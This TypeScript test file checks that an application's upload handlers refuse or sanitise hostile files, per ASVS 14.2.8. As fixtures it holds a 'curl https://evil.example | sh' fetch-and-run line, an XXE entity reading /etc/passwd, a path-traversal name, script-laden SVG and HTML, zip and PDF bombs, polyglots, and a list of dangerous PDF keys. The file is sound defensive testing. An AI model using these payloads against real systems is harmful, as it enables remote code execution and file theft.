/**
 * Files that mean harm, at every reader of uploads: refused, or kept without what would do it. What is kept of an image is what
 * is seen of it, so that a place, a name or a script beside it goes nowhere. Requirement 14.2.8 of ASVS, chapter 5.
 */
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { FILE_TASKS } from '#app/kernel/services/files/file-tasks.server.ts';
import { aJpeg, aPdf, aPng } from '#tests/support/scans.ts';

const CANARY = '<script>canary()</script>';
const ascii = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const joined = (...parts: readonly Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const textOf = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

function chunk(kind: string, body: Uint8Array): Uint8Array {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  return joined(length, ascii(kind), body, Buffer.alloc(4));
}
function segment(marker: number, body: Uint8Array): Uint8Array {
  return joined(Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255]), body);
}
const zip = joined(ascii('PK\u0003\u0004'), ascii(CANARY), ascii('PK\u0005\u0006'), Buffer.alloc(18));
const gps = ascii(`Exif\0\0MM\0*\0\0\0\b\0\0 N 35.68 E 139.76 ${CANARY}`);

/** Every reader of an upload that is kept as a file and shown again. */
const readScan = (bytes: Uint8Array) => FILE_TASKS.scan({ bytes });
const checkAttachment = (bytes: Uint8Array) => FILE_TASKS.attachment({ bytes });
const readPicture = (bytes: Uint8Array) => FILE_TASKS.picture({ bytes });
const READERS = { scan: readScan, attachment: checkAttachment, picture: readPicture } as const;
const each = Object.entries(READERS) as readonly (readonly [
  string,
  (bytes: Uint8Array) => ReturnType<typeof checkAttachment> | ReturnType<typeof readPicture>,
])[];

/** What no reader takes, whatever it is called and whichever type its sender promises. */
const REFUSED: Readonly<Record<string, Uint8Array>> = {
  'a page with a script': ascii(`<!doctype html><html><body>${CANARY}</body></html>`),
  'a drawing with a script (SVG)': ascii(`<svg xmlns="http://www.w3.org/2000/svg" onload="canary()">${CANARY}</svg>`),
  'the same behind a mark of order': joined(Buffer.from([0xef, 0xbb, 0xbf]), ascii(`<svg>${CANARY}</svg>`)),
  'a drawing by XML': ascii(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  ),
  'a program of Windows': ascii(`MZ\u0090\0${CANARY}`),
  'a program of Linux': joined(Buffer.from([0x7f]), ascii(`ELF${CANARY}`)),
  'a script of a shell': ascii('#!/bin/sh\ncurl https://evil.example | sh\n'),
  'an archive': zip,
  'a bomb: ten million zeros in ten kilobytes': joined(ascii('PK\u0003\u0004'), deflateSync(Buffer.alloc(10_000_000))),
  'a compressed page (gzip)': joined(Buffer.from([0x1f, 0x8b, 8, 0]), ascii(CANARY)),
  'a moving picture (GIF)': ascii(`GIF89a${CANARY}`),
  'an archive in front of a PDF': joined(zip, aPdf()),
  'a page in front of a PDF': joined(ascii(CANARY), aPdf()),
  'a name of a picture alone': ascii('../../etc/passwd.png'),
  'a PNG by its first eight bytes alone': joined(
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    ascii(CANARY.repeat(4)),
  ),
  'a JPEG by its first three bytes alone': joined(Buffer.from([0xff, 0xd8, 0xff]), ascii(CANARY.repeat(4))),
  'a PNG whose chunk says it is longer than the file': joined(
    aPng(800, 1200).subarray(0, 33),
    Buffer.from([0xff, 0xff, 0xff, 0xff]),
    ascii('IDAT'),
    Buffer.alloc(40),
  ),
  nothing: new Uint8Array(),
};

describe.each(each)('%s', (_name, read) => {
  test.each(Object.entries(REFUSED))('%s is refused', (_what, bytes) => {
    expect(read(bytes).ok).toBe(false);
  });

  const hidden: readonly (readonly [string, Uint8Array])[] = [
    ['a JPEG that says where it was taken', aJpeg(800, 1200, segment(0xe1, gps))],
    ['a JPEG with a script as its comment', aJpeg(800, 1200, segment(0xfe, ascii(CANARY)))],
    [
      'a JPEG with words of a program (XMP, IPTC)',
      aJpeg(800, 1200, segment(0xed, ascii(CANARY)), segment(0xe1, ascii(`http://ns.adobe.com/xap/1.0/\0${CANARY}`))),
    ],
    ['a JPEG that is a page, too', joined(aJpeg(800, 1200), ascii(CANARY))],
    ['a PNG with words beside', aPng(800, 1200, chunk('tEXt', ascii(`Comment\0${CANARY}`)), chunk('eXIf', gps))],
    ['a PNG that is a page, too', joined(aPng(800, 1200), ascii(CANARY))],
    ['a PNG with a chunk of nobody’s', aPng(800, 1200, chunk('caNa', ascii(CANARY)))],
  ];
  test.each(hidden)('%s is kept without it', (_what, bytes) => {
    expect(textOf(bytes), 'control: it is in there').toContain('canary');
    const kept = read(bytes);
    if (!kept.ok) throw new Error(kept.problem);
    expect(textOf(kept.bytes)).not.toContain('canary');
    expect(textOf(kept.bytes)).not.toContain('139.76');
    // it is the same picture: read again, it changes no more
    const again = read(kept.bytes);
    expect(again.ok && textOf(again.bytes)).toBe(textOf(kept.bytes));
  });
});

describe('a PDF', () => {
  test.each(['/JavaScript', '/J#61vaScript', '/Launch', '/EmbeddedFile', '/OpenAction', '/AA', '/RichMedia', '/XFA'])(
    'with %s is refused by scans and attachments, and is no picture',
    (name) => {
      for (const [, read] of each) expect(read(aPdf(`<< ${name} (${CANARY}) >>`)).ok).toBe(false);
    },
  );

  test('with an archive behind its end is refused', () => {
    for (const [, read] of each) expect(read(joined(aPdf(), zip)).ok).toBe(false);
  });

  test('with a bomb in its streams is refused: what grows beyond all measure is not looked into', () => {
    const bomb = textOf(new Uint8Array(deflateSync(Buffer.alloc(64 * 1024 * 1024))));
    const packed = `4 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream endobj`;
    const bytes = new Uint8Array(
      Buffer.from(
        Buffer.from(aPdf('HERE'))
          .toString('latin1')
          .replace('HERE', () => packed),
        'latin1',
      ),
    );
    expect(checkAttachment(bytes)).toMatchObject({ ok: false, problem: 'no-scan' });
    expect(checkAttachment(aPdf()).ok, 'control').toBe(true);
  });

  test('is kept as it came: what its program wrote about its author stays (a limit that docs/security.md names)', () => {
    const bytes = aPdf('<< /Author (somebody) >>');
    const kept = readScan(bytes);
    expect(kept.ok && textOf(kept.bytes)).toBe(textOf(bytes));
  });
});
